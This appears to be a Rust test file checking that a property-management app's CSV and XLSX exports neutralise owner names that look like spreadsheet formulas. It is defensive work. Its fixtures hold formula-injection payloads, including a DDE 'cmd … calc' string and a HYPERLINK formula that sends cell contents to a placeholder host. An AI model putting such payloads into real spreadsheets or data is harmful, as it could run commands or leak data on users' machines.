//! Exports of user text are inert in spreadsheet programs (issue 13 item 14):
//! owners whose names an attacker chose (`=1+1`, `+cmd|…`) are imported into
//! the sample estate (a real SQLite file), billed, and exported as CSV; the
//! names come out as text that Excel, WPS and LibreOffice will not evaluate,
//! while the money columns stay numbers.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use doorstep_app::App;
use doorstep_app::demo::seed_sample;
use doorstep_app::export::{HEADERS, arrears_csv, arrears_xlsx, csv_text};
use doorstep_domain::Period;
use std::sync::Arc;

const NAMES: [&str; 6] = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=HYPERLINK(\"http://x.example/\"&A1)",
    "张三",
];

#[test]
fn formula_starts_are_neutralised_and_other_text_is_kept() {
    for (cell, want) in [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张三", "张三"),
        ("a=1", "a=1"),
        ("", ""),
    ] {
        assert_eq!(csv_text(cell), want, "{cell:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn owner_names_that_look_like_formulas_are_exported_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(
        doorstep_store_sqlite::open(&dir.path().join("d.sqlite"))
            .await
            .unwrap(),
    );
    let app = App::new(store.clone());
    seed_sample(&app).await.unwrap();
    let estate = app.store.estate_by_code("sample").await.unwrap().unwrap();
    let mut csv = String::from("楼栋,房号,面积,业主,电话\n");
    for (i, name) in NAMES.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        csv.push_str(&format!(
            "90,{},88.50,\"{quoted}\",1390000{i:04}\n",
            101 + i
        ));
    }
    let report = app
        .import_file(&estate, "owners.csv", csv.as_bytes(), false)
        .await
        .unwrap();
    assert!(report.applied, "{:?}", report.errors);
    let period = Period::parse("2020-01").unwrap();
    app.run_billing(&estate, period, None, &mut |_, _| {})
        .await
        .unwrap();
    let as_of = jiff::civil::date(2020, 6, 1);
    let arrears = app.arrears(&estate, as_of, "90号楼").await.unwrap();
    assert!(!arrears.rows.is_empty());

    let bytes = arrears_csv(&arrears).unwrap();
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let owner_col = HEADERS.iter().position(|h| *h == "业主").unwrap();
    let money_col = HEADERS.iter().position(|h| *h == "应收金额(元)").unwrap();
    let mut seen = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        if &record[0] == "合计" {
            continue;
        }
        let owner = record[owner_col].to_string();
        assert!(
            !owner.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{owner:?} would be evaluated"
        );
        record[money_col]
            .parse::<f64>()
            .unwrap_or_else(|_| panic!("the amount {:?} is a number", &record[money_col]));
        seen.push(owner);
    }
    for name in NAMES {
        let want = if name.starts_with(['=', '+', '-', '@']) {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert!(seen.contains(&want), "{want:?} in {seen:?}");
    }

    // The workbook keeps names exactly as written: its text cells are typed
    // strings, which Excel never evaluates.
    let xlsx = arrears_xlsx(&arrears).unwrap();
    let mut wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).unwrap();
    use calamine::Reader;
    let range = wb.worksheet_range("欠费明细").unwrap();
    let names: Vec<String> = range.rows().map(|r| r[owner_col].to_string()).collect();
    assert!(names.contains(&"=1+1".to_string()), "{names:?}");
    let formulas = wb.worksheet_formula("欠费明细").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells in the workbook"
    );
}
